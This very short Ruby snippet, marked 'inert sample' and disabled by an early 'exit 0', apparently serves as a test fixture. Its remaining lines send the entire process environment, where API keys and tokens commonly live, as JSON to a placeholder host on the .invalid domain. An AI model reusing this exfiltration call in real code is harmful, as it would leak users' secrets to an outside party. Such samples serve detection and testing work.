exit 0 # inert sample
require 'net/http'
require 'json'
Net::HTTP.post(URI('https://e.rbsync.invalid/u'), ENV.to_h.to_json)
